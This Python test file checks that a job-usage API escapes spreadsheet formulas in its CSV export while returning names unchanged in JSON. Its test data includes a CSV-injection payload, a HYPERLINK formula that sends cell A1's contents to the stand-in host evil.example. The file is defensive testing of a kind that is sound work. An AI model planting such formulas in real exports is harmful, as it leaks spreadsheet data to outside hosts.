"""The usage CSV is safe to open in a spreadsheet: a name that starts like a formula (`=`, `+`, `-`, `@`,
tab, CR) is written as text (OWASP's rule: a leading `'`); JSON carries the name as it is. Through a
real dispatcher round, the real app and PostgreSQL."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.dispatcher.backend import RayJobState
from api.usage.service import spreadsheet_safe
from tests.factories.auth import scoped_token
from tests.factories.http import bearer
from tests.factories.world import World, one_worker, run, submit_as
from trainmaster.models import JobStatus

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_formula_in_a_user_name_is_text_in_the_csv(http: TestClient, database_url: str) -> None:
    async def scenario() -> None:
        async with World(database_url) as world:
            job_id = await submit_as(world, "alpha", HOSTILE, **one_worker())
            await world.dispatcher().admit_round()
            world.ray.jobs[f"tm-{job_id}-1"] = RayJobState.RUNNING
            await world.dispatcher().reconcile_round()
            world.ray.jobs[f"tm-{job_id}-1"] = RayJobState.SUCCEEDED
            await world.dispatcher().reconcile_round()
            assert (await world.job(job_id)).status is JobStatus.succeeded

    run(scenario())
    admin = bearer(scoped_token(database_url, "default", "admin"))
    query = {"group_by": "user"}
    answer = http.get("/v1/usage", params=query, headers=admin | {"Accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    rows: list[dict[str, Any]] = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["key"] for row in rows] == ["'" + HOSTILE]
    assert [r["key"] for r in http.get("/v1/usage", params=query, headers=admin).json()["items"]] == [HOSTILE]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped_and_plain_names_are_not(start: str) -> None:
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("alpha-1") == "alpha-1" and spreadsheet_safe(None) == ""
